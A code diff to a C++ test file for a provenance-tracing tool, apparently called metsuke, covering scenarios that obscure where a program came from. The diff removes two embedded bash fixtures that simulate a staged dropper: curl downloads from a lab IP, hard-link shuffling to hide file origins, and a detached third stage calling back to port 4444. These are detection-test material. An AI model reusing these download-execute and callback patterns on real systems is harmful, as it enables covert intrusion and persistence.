@@ -1,43 +1,12 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 // What makes it harder to say where a program came from.
+#include "tests/trace_scenarios/scenes.h"
 #include "tests/trace_scenarios/trace_scenario.h"
 
 using namespace metsuke;
 using namespace metsuke::test;
 using testing::Contains;
 using testing::HasSubstr;
-
-namespace {
-
-constexpr const char* kFirstStage = R"sh(#!/bin/bash
-# METSUKE-SIM
-[ -n "$METSUKE_SIM_ROOT" ] || exit 1
-cd "$METSUKE_SIM_ROOT" || exit 1
-curl -s -o home/pack.tar http://10.78.0.2:8081/pack.tar
-mkdir work
-tar -xf home/pack.tar -C work
-mv work/second.sh work/b
-mv work/b work/c
-ln work/c home/.second
-rm work/c
-exec home/.second
-)sh";
-constexpr const char* kSecondStage = R"sh(#!/bin/bash
-# METSUKE-SIM
-[ -n "$METSUKE_SIM_ROOT" ] || exit 1
-cd "$METSUKE_SIM_ROOT" || exit 1
-curl -s -o home/t.part http://10.78.0.2:8080/third
-mv home/t.part home/t
-chmod +x home/t
-ln home/t home/.svc
-rm home/t
-setsid home/.svc tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &
-exit 0
-)sh";
-
-constexpr const char* kRun = " >/dev/null 2>&1 </dev/null &";
-
-} // namespace
 
 // S4
 TEST_P(TraceScenario, ProgramInMemory_isFileless) {
